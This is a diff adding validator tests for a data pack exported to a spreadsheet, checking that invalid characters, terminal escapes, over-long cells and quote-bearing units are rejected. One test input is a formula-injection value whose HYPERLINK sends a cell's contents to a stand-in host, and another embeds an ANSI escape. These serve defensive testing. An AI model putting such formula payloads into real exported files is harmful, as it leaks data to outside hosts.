@@ -102,8 +102,53 @@ describe("validatePack", () => {
       (p) => (p.plans[0].targets[1].id = "hte"),
       "plans[0].targets[1].id:目标编号“hte”重复,请改用另一个编号",
     ],
+    [
+      "U+FFFE in a plan title (invalid in the workbook's XML)",
+      (p) => (p.plans[0].title = "规划\uFFFE标题"),
+      "plans[0].title:第 3 个字符是控制字符或无效字符(U+FFFE),请删去后重新导入",
+    ],
+    [
+      "U+1FFFF in a name",
+      (p) => (p.name = "示例\uD83F\uDFFF"),
+      "name:第 3 个字符是控制字符或无效字符(U+1FFFF),请删去后重新导入",
+    ],
+    [
+      "a lone surrogate in an indicator name",
+      (p) => (p.indicators[0].name = "高新\uD842企业"),
+      "indicators[0].name:第 3 个字符是控制字符或无效字符(U+D842),请删去后重新导入",
+    ],
+    [
+      "a terminal escape in a quote",
+      (p) => (p.plans[0].targets[0].quote = "\u001b[31m高新技术企业达到150家"),
+      "plans[0].targets[0].quote:第 1 个字符是控制字符或无效字符(U+001B),请删去后重新导入",
+    ],
+    [
+      "a quote longer than a cell holds",
+      (p) => (p.plans[0].targets[0].quote = "高".repeat(40_000)),
+      "plans[0].targets[0].quote:文字有 40000 个字符,超过单元格上限 32767 个字符,请删短",
+    ],
+    [
+      "a unit that carries a formula",
+      (p) => (p.plans[0].targets[0].unit = '家"&HYPERLINK("http://x?d="&B3,"点此修正")&"'),
+      "plans[0].targets[0].unit:单位应为 1–12 个文字、字母、数字或 %‰°/·,例如 家、亿元、%、件/万人(不含引号、空格、& 或 =)",
+    ],
+    [
+      "a unit that opens a quote",
+      (p) => (p.plans[0].observations[0].unit = '"家'),
+      "plans[0].observations[0].unit:单位应为 1–12 个文字、字母、数字或 %‰°/·,例如 家、亿元、%、件/万人(不含引号、空格、& 或 =)",
+    ],
   ])("%s is an error naming its path", (_, edit, message) => {
     expect(errorsOf(edit)).toContain(message);
+  });
+
+  it("accepts a surrogate pair, line breaks in a quote and units such as 件/万人 and ‰", () => {
+    const v = pack((p) => {
+      p.plans[0].title = "𠮷野县“十五五”科技创新规划";
+      p.plans[0].targets[0].quote = `到2030年,\r\n高新技术企业达到${p.plans[0].targets[0].value}家`;
+      p.plans[0].targets[1].unit = "件/万人";
+      p.plans[0].targets[2].unit = "‰";
+    });
+    expect(v.plans[0].title).toBe("𠮷野县“十五五”科技创新规划");
   });
 
   it("warns (does not fail) when the quote does not state the value in digits", () => {
